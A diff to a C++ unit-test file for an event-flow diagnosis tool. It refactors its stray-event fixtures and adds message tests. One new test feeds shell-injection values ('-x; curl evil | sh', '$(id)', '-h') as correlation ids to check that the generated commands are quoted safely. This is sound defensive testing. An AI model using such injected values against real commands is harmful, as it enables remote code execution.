@@ -135,11 +135,13 @@ TEST_CASE("who has handled it and said nothing is silent, unless the event came 
   facts.delivery("archive", v1::SERVICE_FATE_DEAD);
   CHECK(facts.said() ==
         "HANDLED_BUT_SILENT: payments handled order.placed and did not emit payment.captured");
-  facts.alike = Stray{.correlationid = "order-8", .subject = "order 7", .source = "payments/3"};
+  facts.alike =
+      Strayed{{.correlationid = "order-8", .subject = "order 7", .source = "payments/3"}, "payment.captured"};
   CHECK(facts.said() ==
         "OTHER_CORRELATION: payment.captured came under the correlation id 'order-8', with the same subject "
         "'order 7': payments does not keep the flow together");
-  facts.elsewhere = Stray{.correlationid = "order-9", .causationid = "id-7", .source = "payments/3"};
+  facts.elsewhere = Strayed{{.correlationid = "order-9", .causationid = "id-7", .source = "payments/3"},
+                            "payment.captured"};
   CHECK(
       facts.said() ==
       "OTHER_CORRELATION: payment.captured came under the correlation id 'order-9', though an event of this "
@@ -162,13 +164,36 @@ TEST_CASE("who has handled it and said nothing is silent, unless the event came 
   CHECK(facts.said().starts_with("OTHER_CORRELATION: "));
 }
 
+TEST_CASE("of several that are missing, the one that came elsewhere is named") {
+  Facts facts;
+  facts.expectation.add_missing("invoice.issued");
+  facts.expectation.set_any_of(false);
+  facts.delivery("payments", v1::SERVICE_FATE_SETTLED);
+  facts.elsewhere = Strayed{{.correlationid = "order-9", .source = "invoicing/3"}, "invoice.issued"};
+  CHECK(facts.said() ==
+        "OTHER_CORRELATION: invoice.issued came under the correlation id 'order-9', though an event of this "
+        "flow caused it: invoicing does not keep the flow together");
+}
+
+TEST_CASE("a command is safe to paste, whoever chose the ids in it") {
+  Facts facts;
+  facts.correlationid = "-x; curl evil | sh";
+  facts.delivery("payments", v1::SERVICE_FATE_SETTLED);
+  CHECK(why(facts).commands(1) == "reel replay --to payments --flow='-x; curl evil | sh'");
+  facts.elsewhere = Strayed{{.correlationid = "$(id)", .source = "payments/3"}, "payment.captured"};
+  CHECK(why(facts).commands(0) == "reel flow '$(id)'");
+  facts.elsewhere->stray.correlationid = "-h";
+  CHECK(why(facts).commands(0) == "reel flow -- -h");
+}
+
 TEST_CASE("a missing flow that has begun is what is waited for, and says how it stands") {
   Facts facts;
   facts.expectation.clear_missing();
   facts.expectation.add_missing("flow packing");
   facts.delivery("payments", v1::SERVICE_FATE_SETTLED);
   auto& part = facts.part.emplace();
-  part.set_correlationid("parcel-7");
+  part.set_correlationid("parcel-7");  // not saved yet: nothing else is known
+  CHECK(facts.said() == "SUBFLOW: flow packing has begun as parcel-7, which is under way");
   part.set_state(v1::FLOW_STATE_OPEN);
   part.set_last_topic("parcel.requested");
   CHECK(facts.said() ==
